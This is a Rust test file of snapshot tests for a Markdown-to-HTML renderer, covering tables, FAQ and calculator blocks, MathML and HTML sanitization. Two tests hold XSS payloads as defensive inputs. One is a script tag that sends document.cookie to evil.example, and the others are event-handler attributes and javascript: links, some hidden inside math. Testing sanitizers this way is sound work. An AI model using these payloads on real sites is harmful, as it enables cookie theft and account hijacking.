//! Snapshots of rendered Markdown: any change to the HTML authors get is reviewed.

use quire_compiler::markdown::render;

#[test]
fn technical_post_features() {
    let markdown = r#"## Setting up *replication*

Streaming replication keeps a hot standby -- "cheap" insurance.

| setting | value |
|---|---:|
| `wal_level` | replica |
| `max_wal_senders` | 10 |

- [x] take a base backup
- [ ] promote the standby

~~Logical~~ physical replication.[^lag]

```sql
SELECT pg_is_in_recovery();
```

### Checking lag {#lag-check}

See the [docs](https://www.postgresql.org/docs/) and [the FAQ](/faq).

[^lag]: Lag is measured in bytes of WAL.
"#;
    insta::assert_snapshot!(render(markdown).html);
}

#[test]
fn hostile_raw_html_is_sanitized() {
    let markdown = r#"<div onclick="steal()" style="color:red">text</div>

<script>fetch('https://evil.example/'+document.cookie)</script>

<iframe src="https://evil.example"></iframe>

<a href="javascript:alert(1)">click</a> <img src="/cat.png" alt="cat" onerror="x()">

[md link](javascript:alert(1))
"#;
    insta::assert_snapshot!(render(markdown).html);
}

#[test]
fn code_blocks_known_and_unknown_languages() {
    let markdown = "```rust,ignore\nfn main() { println!(\"<hi>\"); }\n```\n\n```klingon\nqaStaH nuq?\n```\n\n```\nno language\n```\n";
    insta::assert_snapshot!(render(markdown).html);
}

#[test]
fn faq_block() {
    let markdown = "```faq\nQ: Do you work with <small> teams?\nYes: *two* engineers is enough.\n\nQ: Is the first call free?\nIt is. [Book one](/about).\n```\n";
    let rendered = render(markdown);
    insta::assert_snapshot!(rendered.html);
    assert_eq!(rendered.faq.len(), 2);
    assert_eq!(rendered.faq[0].question, "Do you work with <small> teams?");
    assert_eq!(rendered.faq[1].answer, "It is. Book one.");
    assert_eq!(rendered.internal_links, [("/about".to_string(), 0)]);
}

#[test]
fn calculator_blocks() {
    let markdown = "```calculator ltv\narpa = 80\nmargin = 75\nchurn = 3\n```\n\n```calculator cohort\ncustomer,month\na,2026-01\nb,2026-02\n```\n";
    let rendered = render(markdown);
    insta::assert_snapshot!(rendered.html);
    let embeds: Vec<_> = rendered
        .calculators
        .iter()
        .map(|c| {
            (
                c.id.as_str(),
                c.calculator.as_str(),
                c.query.as_str(),
                c.csv.is_some(),
            )
        })
        .collect();
    assert_eq!(
        embeds,
        [
            ("calculator-1", "ltv", "arpa=80&margin=75&churn=3", false),
            ("calculator-2", "cohort", "", true)
        ]
    );
}

#[test]
fn math_becomes_mathml() {
    let markdown = r#"Payback is $\frac{\text{CAC}}{m \cdot \text{ARPA}}$ months; prices like $5 and $10 stay text.

$$
\text{LTV} = \sum_{t=1}^{T} \frac{m \cdot r^{t-1}}{(1+d)^{t}}
$$
"#;
    let rendered = render(markdown);
    assert!(
        rendered.math_errors.is_empty(),
        "{:?}",
        rendered.math_errors
    );
    insta::assert_snapshot!(rendered.html);
}

#[test]
fn math_cannot_smuggle_markup() {
    // Text inside math is escaped by the renderer and the sanitizer keeps
    // only MathML: no script, no event attribute, no link.
    let rendered =
        render(r#"$\text{<script>alert(1)</script>} x$ and $\href{javascript:alert(1)}{x}$"#);
    assert!(!rendered.html.contains("<script"), "{}", rendered.html);
    assert!(!rendered.html.contains("javascript:"), "{}", rendered.html);
    assert!(!rendered.html.contains("href"), "{}", rendered.html);
}
